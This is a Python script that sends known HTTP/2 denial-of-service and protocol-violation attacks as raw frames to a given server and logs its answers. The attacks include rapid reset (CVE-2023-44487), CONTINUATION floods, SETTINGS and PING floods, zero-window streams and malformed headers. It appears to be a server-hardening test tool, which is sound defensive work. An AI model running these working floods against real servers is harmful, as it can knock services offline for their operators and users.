#!/usr/bin/env python3
"""Known HTTP/2 attacks on a server, sent as raw frames (hyperframe + hpack, which come with
the `h2` package), and what the server answered, as one JSON line.

    h2_attack.py HOST:PORT ATTACK [--count N] [--wait S] [--authority A] [--path P]

ATTACK:
  rapid-reset         N streams, each HEADERS then RST_STREAM(CANCEL) at once (CVE-2023-44487)
  continuation-flood  one HEADERS without END_HEADERS, then N CONTINUATION frames that never
                      end the header block (CVE-2024-27316 and kin)
  settings-flood      N SETTINGS frames, never reading the ACKs
  ping-flood          N PING frames, never reading the ACKs
  header-list         one request whose header list is N bytes (complete, END_HEADERS)
  never-read          N streams of GET --path with a zero-size stream window, never updated
                      (opened once the server's SETTINGS are acknowledged)
  pseudo-unknown      a request with an unknown pseudo-header `:bogus`
  pseudo-missing      a request without `:path`
  pseudo-after        a request with a pseudo-header after a regular one
  pseudo-connection   a request carrying the connection-specific `connection` header
  pseudo-uppercase    a request with an upper-case field name
  data-closed         a complete GET on stream 1, its answer read, then DATA on stream 1
  oversized-frame     a POST whose DATA frame carries N bytes, beyond the server's
                      SETTINGS_MAX_FRAME_SIZE (default 16,384)
  settings            no attack: the handshake only, to report the server's SETTINGS

After `ATTACKING` on stderr (the flood is under way), the answer is read until the server
closes, a GOAWAY arrives, or --wait seconds pass. Output: {"goaway": code or null,
"goaway_last_stream": id or null, "resets": {"<code>": count}, "statuses": {"<status>":
count}, "closed": bool, "sent_frames": n, "send_blocked": bool, "settings": {"<id>":
value} (the server's SETTINGS)}. `send_blocked` says the
server stopped reading while we were still sending (back-pressure), which ends the flood early.
"""
import argparse
import json
import select
import socket
import sys
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8


class Wire:
    def __init__(self, addr, wait):
        host, _, port = addr.rpartition(":")
        self.sock = socket.create_connection((host, int(port)), timeout=10)
        self.sock.setblocking(False)
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.decoder.max_allowed_table_size = 65536
        self.inbuf = b""
        self.sent_frames = 0
        self.send_blocked = False
        self.closed = False
        self.wait = wait
        self.result = {"goaway": None, "goaway_last_stream": None, "resets": {},
                       "statuses": {}, "closed": False}
        self.ended_streams = set()

    def send(self, data, bound=10.0):
        """Send all of data; False when the server stops reading for `bound` seconds or closes."""
        deadline = time.monotonic() + bound
        view = memoryview(data)
        while view:
            try:
                n = self.sock.send(view)
                view = view[n:]
                continue
            except BlockingIOError:
                pass
            except OSError:
                # Closed or reset: what the server sent before (its GOAWAY) may still be
                # waiting in our receive buffer.
                self.closed = True
                self.drain()
                return False
            # Blocked: read what the server sends meanwhile (it may be the GOAWAY).
            self.pump(0.05)
            if self.closed or self.result["goaway"] is not None:
                return False
            if time.monotonic() >= deadline:
                self.send_blocked = True
                return False
        return True

    def frame(self, f):
        self.sent_frames += 1
        return self.send(f.serialize())

    def headers_block(self, headers):
        return self.encoder.encode(headers)

    def pump(self, timeout):
        """Read for up to timeout seconds, handling every whole frame."""
        end = time.monotonic() + timeout
        while True:
            left = end - time.monotonic()
            if left <= 0:
                return
            r, _, _ = select.select([self.sock], [], [], left)
            if not r:
                return
            try:
                data = self.sock.recv(1 << 16)
            except BlockingIOError:
                continue
            except OSError:
                self.closed = True
                self.drain()
                return
            if not data:
                self.closed = True
                return
            self.inbuf += data
            self.parse()

    def drain(self):
        """Read whatever is still buffered after the server closed or reset."""
        while True:
            try:
                r, _, _ = select.select([self.sock], [], [], 0.2)
                if not r:
                    return
                data = self.sock.recv(1 << 16)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                return
            if not data:
                return
            self.inbuf += data
            self.parse()

    def parse(self):
        while len(self.inbuf) >= 9:
            f, length = Frame.parse_frame_header(memoryview(self.inbuf[:9]))
            if len(self.inbuf) < 9 + length:
                return
            body = self.inbuf[9:9 + length]
            self.inbuf = self.inbuf[9 + length:]
            try:
                f.parse_body(memoryview(body))
            except Exception:
                continue
            self.on_frame(f)

    def on_frame(self, f):
        if isinstance(f, GoAwayFrame):
            self.result["goaway"] = f.error_code
            self.result["goaway_last_stream"] = f.last_stream_id
        elif isinstance(f, RstStreamFrame):
            key = str(f.error_code)
            self.result["resets"][key] = self.result["resets"].get(key, 0) + 1
            self.ended_streams.add(f.stream_id)
        elif isinstance(f, SettingsFrame) and "ACK" not in f.flags:
            self.result.setdefault("settings", {}).update(
                {str(k): v for k, v in f.settings.items()})
            self.send(SettingsFrame(0, flags=["ACK"]).serialize())
        elif isinstance(f, SettingsFrame):
            self.result["settings_acked"] = True
        elif isinstance(f, HeadersFrame):
            try:
                for name, value in self.decoder.decode(f.data):
                    if name in (b":status", ":status"):
                        v = value.decode() if isinstance(value, bytes) else value
                        self.result["statuses"][v] = self.result["statuses"].get(v, 0) + 1
            except Exception:
                pass
            if "END_STREAM" in f.flags:
                self.ended_streams.add(f.stream_id)
        elif isinstance(f, DataFrame) and "END_STREAM" in f.flags:
            self.ended_streams.add(f.stream_id)

    def handshake(self, settings=None):
        self.send(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())

    def finish(self, until):
        """Read until the server closes, a GOAWAY comes, `until()` holds, or the wait passes."""
        end = time.monotonic() + self.wait
        while time.monotonic() < end and not self.closed and self.result["goaway"] is None:
            if until is not None and until():
                break
            self.pump(0.1)
        self.result["closed"] = self.closed
        self.result["sent_frames"] = self.sent_frames
        self.result["send_blocked"] = self.send_blocked
        return self.result


def request_headers(args, extra=(), path=None):
    return [(":method", "GET"), (":scheme", "http"), (":authority", args.authority),
            (":path", path or args.path)] + list(extra)


def attack(w, args):
    name, n = args.attack, args.count
    until = None
    if name == "rapid-reset":
        w.handshake()
        print("ATTACKING", file=sys.stderr, flush=True)
        sid = 1
        for i in range(n):
            block = w.headers_block(request_headers(args))
            burst = HeadersFrame(sid, block, flags=["END_HEADERS", "END_STREAM"]).serialize()
            burst += RstStreamFrame(sid, error_code=CANCEL).serialize()
            w.sent_frames += 2
            if not w.send(burst):
                break
            sid += 2
            if i % 64 == 0:
                w.pump(0)
    elif name == "continuation-flood":
        w.handshake()
        print("ATTACKING", file=sys.stderr, flush=True)
        block = w.headers_block(request_headers(args))
        w.frame(HeadersFrame(1, block, flags=[]))
        filler = hpack.Encoder().encode([("x-flood", "a" * 1000)])
        for i in range(n):
            if not w.frame(ContinuationFrame(1, filler, flags=[])):
                break
            if i % 64 == 0:
                w.pump(0)
    elif name in ("settings-flood", "ping-flood"):
        w.handshake()
        print("ATTACKING", file=sys.stderr, flush=True)
        for i in range(n):
            if name == "settings-flood":
                f = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535})
            else:
                f = PingFrame(0, opaque_data=i.to_bytes(8, "big"))
            w.sent_frames += 1
            if not w.send(f.serialize()):
                break
    elif name == "header-list":
        w.handshake()
        print("ATTACKING", file=sys.stderr, flush=True)
        block = w.headers_block(request_headers(args, [("x-big", "b" * n)]))
        frames = [block[i:i + 16384] for i in range(0, len(block), 16384)]
        for i, piece in enumerate(frames):
            last = i == len(frames) - 1
            if i == 0:
                flags = ["END_STREAM"] + (["END_HEADERS"] if last else [])
                w.frame(HeadersFrame(1, piece, flags=flags))
            else:
                w.frame(ContinuationFrame(1, piece, flags=["END_HEADERS"] if last else []))
        until = lambda: 1 in w.ended_streams  # noqa: E731
    elif name == "never-read":
        w.handshake({SettingsFrame.INITIAL_WINDOW_SIZE: 0})
        # The server's SETTINGS (its stream limit) first, acknowledged before our HEADERS.
        end = time.monotonic() + args.wait
        while "settings" not in w.result and time.monotonic() < end and not w.closed:
            w.pump(0.1)
        print("ATTACKING", file=sys.stderr, flush=True)
        for i in range(n):
            block = w.headers_block(request_headers(args))
            w.frame(HeadersFrame(1 + 2 * i, block, flags=["END_HEADERS", "END_STREAM"]))
        streams = set(range(1, 2 * n, 2))
        until = lambda: streams <= w.ended_streams  # noqa: E731
    elif name.startswith("pseudo-"):
        w.handshake()
        print("ATTACKING", file=sys.stderr, flush=True)
        base = request_headers(args)
        headers = {
            "pseudo-unknown": base + [(":bogus", "1")],
            "pseudo-missing": [h for h in base if h[0] != ":path"],
            "pseudo-after": [base[0], base[1], ("x-first", "1"), base[2], base[3]],
            "pseudo-connection": base + [("connection", "keep-alive")],
            "pseudo-uppercase": base + [("X-Upper", "1")],
        }[name]
        w.frame(HeadersFrame(1, w.headers_block(headers), flags=["END_HEADERS", "END_STREAM"]))
        until = lambda: 1 in w.ended_streams  # noqa: E731
    elif name == "data-closed":
        w.handshake()
        block = w.headers_block(request_headers(args))
        w.frame(HeadersFrame(1, block, flags=["END_HEADERS", "END_STREAM"]))
        end = time.monotonic() + args.wait
        while 1 not in w.ended_streams and time.monotonic() < end and not w.closed:
            w.pump(0.1)
        w.result["first_stream_ended"] = 1 in w.ended_streams
        print("ATTACKING", file=sys.stderr, flush=True)
        w.frame(DataFrame(1, b"late data", flags=[]))
        # A stream error on stream 1 or a connection error ends the exchange.
        until = lambda: w.result["resets"]  # noqa: E731
    elif name == "oversized-frame":
        w.handshake()
        print("ATTACKING", file=sys.stderr, flush=True)
        block = w.headers_block([(":method", "POST"), (":scheme", "http"),
                                 (":authority", args.authority), (":path", args.path)])
        w.frame(HeadersFrame(1, block, flags=["END_HEADERS"]))
        w.frame(DataFrame(1, b"d" * n, flags=["END_STREAM"]))
        until = lambda: w.result["resets"]  # noqa: E731
    elif name == "settings":
        w.handshake()
        print("ATTACKING", file=sys.stderr, flush=True)
        until = lambda: "settings" in w.result and w.result.get("settings_acked")  # noqa: E731
    else:
        raise SystemExit(f"unknown attack {name}")
    return w.finish(until)


def main():
    p = argparse.ArgumentParser()
    p.add_argument("addr")
    p.add_argument("attack")
    p.add_argument("--count", type=int, default=1000)
    p.add_argument("--wait", type=float, default=30.0)
    p.add_argument("--authority", default="attack.test")
    p.add_argument("--path", default="/")
    args = p.parse_args()
    w = Wire(args.addr, args.wait)
    result = attack(w, args)
    result["attack"] = args.attack
    print(json.dumps(result))
    try:
        w.sock.close()
    except OSError:
        pass
    return 0


if __name__ == "__main__":
    sys.exit(main())
